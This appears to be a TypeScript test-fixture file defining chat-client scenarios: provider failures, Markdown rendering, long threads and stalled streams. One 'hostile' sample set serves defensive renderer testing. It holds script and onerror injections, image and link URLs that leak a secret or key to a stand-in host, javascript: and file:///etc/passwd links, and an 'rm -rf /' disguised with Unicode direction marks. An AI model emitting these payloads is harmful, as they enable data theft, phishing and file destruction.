/** Scenarios about conversations: every cause of failure, every end of an answer, long threads, slow answers. */
import type { ConversationView, CostView, ErrorCode, FailureView, MessageView, PayerView } from "../bindings";
import { hostileMessages } from "./hostile";
import { failure, message, type World } from "./state";

const HOUR = 3_600_000;
const SONNET = { keyId: "k-anthropic", model: "claude-sonnet-4-5" };
const PAYER: PayerView = {
  kind: "user_key",
  keyId: "k-anthropic",
  label: "Personal",
  last4: "4f2a",
  provider: "anthropic",
  providerName: "Anthropic",
};
const LOCAL: PayerView = { kind: "nobody", keyId: "k-ollama", label: "Ollama", provider: "ollama" };
const KNOWN: CostView = {
  kind: "known",
  amount: "0.024462",
  source: "LiteLLM 1.109.1",
  asOf: "2026-11-20",
  toBeConfirmed: false,
};

function question(id: string, text: string, more: Partial<MessageView> = {}): MessageView {
  return message(id, "user", text, { createdAt: Date.now() - HOUR, ...more });
}

function answer(id: string, text: string, more: Partial<MessageView> = {}, cost: CostView = KNOWN): MessageView {
  const payer = more.payer ?? PAYER;
  const modelName = more.modelName ?? "Claude Sonnet 4.5";
  return message(id, "assistant", text, {
    createdAt: Date.now() - HOUR,
    model: SONNET,
    modelName,
    payer,
    receipt: {
      model: SONNET.model,
      modelName,
      payer,
      tokens: { input: 6214, inputUncached: 1318, cacheRead: 4096, cacheWrite: 800, output: 388, reasoning: 120 },
      cost,
      firstTokenMs: 820,
      durationMs: 6400,
      requestId: "req_011CSHoEeqs5C35K2UUqR7Fy",
    },
    ...more,
  });
}

const conversation = (id: string, title: string, messages: MessageView[]): ConversationView => ({
  id,
  projectId: null,
  title,
  messages,
  draft: "",
  model: SONNET,
  turnId: null,
});

/** What each cause looks like when it comes from a provider. */
const failures: Partial<Record<ErrorCode, Partial<FailureView>>> = {
  key_invalid: { status: 401, providerCode: "authentication_error", billed: "not_sent" },
  key_invalid_or_quota: { status: 401 },
  key_disabled: { status: 401, providerCode: "authentication_error", billed: "not_sent" },
  key_expired: { status: 401 },
  key_wrong_kind: { status: 403 },
  permission_missing: { status: 403, scopes: ["model.request"] },
  ip_not_allowed: { status: 401 },
  org_mismatch: { status: 401 },
  account_disabled: { status: 400 },
  out_of_credit: { status: 400, providerCode: "invalid_request_error", billed: "not_sent" },
  billing_problem: { status: 402 },
  billing_required: { status: 403 },
  spend_limit: { status: 400 },
  usage_limit: { status: 429 },
  daily_quota: { status: 429, retry: "after_reset", retryAt: Date.now() + 10 * HOUR },
  rate_limited: { status: 429, retry: "after_delay", retryAfterMs: 23_000 },
  request_too_large_for_limit: { status: 429 },
  model_unavailable: { status: 404, providerCode: "not_found_error" },
  context_too_long: { status: 400 },
  payload_too_large: { status: 413 },
  content_blocked: { status: 400, providerCode: "refusal", billed: "unknown" },
  region_unsupported: { status: 403 },
  overloaded: { status: 529, providerCode: "overloaded_error", retry: "backoff", tries: 3 },
  server_error: { status: 500, providerCode: "api_error", retry: "backoff" },
  timeout: { retry: "backoff", billed: "unknown", waitedMs: 60_000 },
  bad_request: { status: 400, providerCode: "invalid_request_error" },
  proxy_or_network: { retry: "backoff", billed: "not_sent" },
  offline: { retry: "backoff", billed: "not_sent" },
  stream_broken: { billed: "unknown", begun: true },
};

function failed(code: ErrorCode, facts: Partial<FailureView>, title: string = code): ConversationView {
  const partial = facts.begun ? "In three releases, none of which holds a lock for more than a" : "";
  return conversation(`c-${title}`, title, [
    question(`${code}-1`, "So the table is written to all day?"),
    answer(`${code}-2`, "Yes, and there is no quiet hour to use."),
    question(`${code}-3`, "Show me step 2 as a script, with the cursor table and a dry run."),
    answer(
      `${code}-4`,
      partial,
      {
        state: "failed",
        failure: failure(code, { requestId: "req_011CSHoEeqs5C35K2UUqR7Fy", ...facts }),
        ...(partial === "" ? { receipt: null } : {}),
      },
      { kind: "unknown", reason: "partial_usage", atLeast: "0.0131" },
    ),
  ]);
}

const everything = [
  "A table, a formula and a task list.\n\n| Engine | Rows a second | Note |\n|:--|--:|:--|\n| `COPY` | 812,000 | streams |\n| cursor | 96,400 | batches |",
  "The wait is bounded: $T_n \\le \\frac{1}{\\mu}\\sum_{k=1}^{n} \\lambda_k$, and so\n\n$$\n\\lim_{n \\to \\infty} T_n = \\int_0^\\infty e^{-\\mu t}\\,dt\n$$",
  "- [x] Read the plan\n- [ ] Add the index\n\n> A snapshot does not block writers.\n\n### Next\n\nSee [the manual](https://www.postgresql.org/docs/current/sql-copy.html), or ![the plan](https://sink.example/plan.png).",
].join("\n\n");

const prose = [
  "## How the export streams",
  "`COPY` hands rows over **as it reads them**, so writers no longer queue behind one long transaction. The index on `placed_at` covers the export; the slow part is how the rows leave the database rather than how they are found.",
  "1. **Locks.** `COPY` reads a snapshot.\n2. **Memory.** Flat at about 8 MB.\n3. **Failure.** Write to a temporary name and rename it.",
  '```rust\nlet stmt = client.prepare("COPY (SELECT * FROM orders) TO STDOUT").await?;\nwhile let Some(chunk) = rows.try_next().await? {\n    sink.write_all(&chunk).await?;\n}\n```',
  "| Engine | Rows a second | Memory |\n|:--|--:|--:|\n| `COPY` | 812,000 | 8 MB |\n| cursor | 96,400 | 40 MB |\n| one query | 240,000 | 2.1 GB |",
  "> A dropped connection leaves a partial file, so the rename is what makes the export whole.",
  "The wait is bounded by $T_n$, and nothing else waits for it: readers see the old file until the new one is there, which is what the nightly job wants.",
].join("\n\n");

/** What must show as text, ask before it opens anything, and load nothing. */
const hostile = [
  '<script>window.hit = 1</script>\n\n<img src="https://sink.example/a.png" onerror="window.hit = 1">',
  "Here is the chart: ![the chart](https://sink.example/?secret=1) and ![inside](data:image/svg+xml;base64,PHN2Zz4=).",
  "[Sign in again](https://sink.example/steal?key=abc) or [run it](javascript:window.hit=1) or [your files](file:///etc/passwd).",
  "```sh\nrm \u202e fr- /\u202c \u200b# looks harmless\n```",
  `A word without an end: ${"abcdefghij".repeat(40)}`,
  `| ${Array.from({ length: 14 }, (_, at) => `Column ${at}`).join(" | ")} |\n|${"--|".repeat(14)}\n| ${Array.from({ length: 14 }, (_, at) => `a long cell ${at}`).join(" | ")} |`,
].join("\n\n");

const ENDS_VERSIONS = ["e2a", "e2", "e2c"];

const HELD = [
  "Yes. The job asks for every row inside one transaction and only starts writing when the last one has arrived, so writers queue behind it. `COPY` hands rows over as it reads them:",
  '```rust\nlet stmt = client.prepare("COPY (SELECT * FROM orders) TO STDOUT").await?;\nwhile let Some(chunk) = rows.try_next().await? {\n    sink.write_all(&chunk).await?;  // back-pressure comes free\n}\n```',
  "Writers no longer wait, memory stays flat, and a dropped connection leaves a partial file, so write to a temporary name and rename it.",
].join("\n\n");

const thought = "The user wants the export to stop blocking writers. COPY reads a snapshot, so it is enough.";

/** The scenarios, over a world in the middle of work. */
export const chatScenarios = (working: () => World) => ({
  /** One conversation for each cause of failure. */
  failures: (): World => {
    const conversations = Object.entries(failures).map(([code, facts]) => failed(code as ErrorCode, facts));
    const begun: Partial<FailureView> = { ...failures.overloaded, tries: 1, begun: true, billed: "unknown" };
    conversations.push(failed("overloaded", begun, "after the first words"));
    return { ...working(), projects: [], conversations, changedAt: new Map() };
  },
  /** How answers end, what they hold and what they cost. */
  answers: (): World => {
    const conversations = [
      conversation("c-rich", "Everything Markdown can", [
        question("r1", "Show me all of it."),
        answer("r2", everything),
      ]),
      conversation("c-hostile", "What someone who means harm sends", [
        question("h1", "Summarise this page."),
        answer("h2", hostile),
      ]),
      conversation("c-ends", "How answers end", [
        question("e1", "Which index does the export use?", { version: 1, versions: ["e0", "e1"] }),
        answer("e2", "The one on `placed_at`.", { thinking: thought, version: 1, versions: ENDS_VERSIONS }),
        question("e3", "And on this computer?"),
        answer("e4", "The same one.", { payer: LOCAL, modelName: "qwen3:8b" }, { kind: "free" }),
        question("e5", "With a model nobody has a price for?"),
        answer(
          "e6",
          "Still the same.",
          { modelName: "nw-large" },
          { kind: "unknown", reason: "no_price", atLeast: null },
        ),
        question("e7", "Explain it at length."),
        answer(
          "e8",
          "It begins with the",
          { state: "stopped" },
          { kind: "unknown", reason: "partial_usage", atLeast: "0.0004" },
        ),
        question("e9", "Once more."),
        answer("e10", "It begins", { state: "interrupted", receipt: null }),
      ]),
      conversation("c-length", "Cut at its length", [
        question("n1", "Write all of it."),
        answer("n2", "It begins with the snapshot, which", { ending: "length" }),
      ]),
      conversation("c-refused", "Stopped by safety rules", [
        question("n3", "Write all of it."),
        answer("n4", "", { ending: "refused" }),
      ]),
      conversation("c-other", "Ended without a reason", [
        question("n5", "Write all of it."),
        answer("n6", "It begins", { ending: "other" }),
      ]),
    ];
    const versions = new Map([
      ["e0", [question("e0", "Which index is used?", { versions: ["e0", "e1"] }), answer("e0a", "Used by what?")]],
      ["e2a", [answer("e2a", "An index on the day.", { versions: ENDS_VERSIONS })]],
      ["e2c", [answer("e2c", "`orders_placed_at`.", { version: 2, versions: ENDS_VERSIONS })]],
    ]);
    return { ...working(), projects: [], conversations, changedAt: new Map(), versions };
  },
  /** The name of a hostile message is answered with it. */
  hostile: (): World => ({
    ...working(),
    answers: new Map(hostileMessages.map(({ name, text }) => [name, text])),
  }),
  /** A conversation of 5,000 messages. */
  long: (): World => {
    const messages = Array.from({ length: 5000 }, (_, at) =>
      at % 2 === 0
        ? question(`l${at}`, `Question ${at / 2 + 1}: what does step ${at} do?`)
        : answer(
            `l${at}`,
            `Step ${at} reads a **batch** of rows.\n\n\`\`\`sql\nSELECT ${at};\n\`\`\`\n\n- first\n- second`,
          ),
    );
    return {
      ...working(),
      projects: [],
      conversations: [conversation("c-long", "Long", messages)],
      changedAt: new Map(),
    };
  },
  /** The next answer takes its time. */
  slow: (): World => ({ ...working(), nextAnswer: { text: `${everything}\n\n`.repeat(8), pieceMs: 30 } }),
  /** The next answer falls silent in the middle of a sentence, until it is stopped. */
  held: (): World => ({
    ...working(),
    nextAnswer: { text: HELD, thinking: thought, pieceMs: 4, holdAfter: 64 },
  }),
  /** The next answer never begins. */
  silent: (): World => ({ ...working(), nextAnswer: { text: HELD, holdAfter: 0 } }),
  /** The next answer is 20,000 tokens long and comes at about 1,000 a second. */
  flood: (): World => ({ ...working(), nextAnswer: { text: `${prose}\n\n`.repeat(60), pieceMs: 4, pieceWords: 4 } }),
  /** The next answer waits for the network. */
  disconnected: (): World => ({ ...working(), nextAnswer: { text: "Here it is.", isOffline: true } }),
  /** The disk is full: what is written is not kept. */
  "disk-full": (): World => ({ ...working(), isDiskFull: true }),
  /** The database does not answer a search. */
  "search-broken": (): World => ({ ...working(), isSearchBroken: true }),
  /** An export or import takes its time. */
  "transfer-holds": (): World => ({ ...working(), transferEnds: "holds" }),
  /** The file to import is damaged. */
  "transfer-damaged": (): World => ({ ...working(), transferEnds: "damaged" }),
  /** An older version left messages that are not indexed yet. */
  "search-unindexed": (): World => ({ ...working(), unindexed: 18_204 }),
  /** The disk is full when the next answer ends. */
  unsaved: (): World => ({ ...working(), nextAnswer: { text: HELD, pieceMs: 1, isUnsaved: true } }),
  /** The next answer waits for the provider's limit. */
  limited: (): World => ({
    ...working(),
    nextAnswer: {
      text: "Here it is.",
      waitMs: 23_000,
      failure: failure("rate_limited", { status: 429, retry: "after_delay", retryAfterMs: 23_000 }),
    },
  }),
});
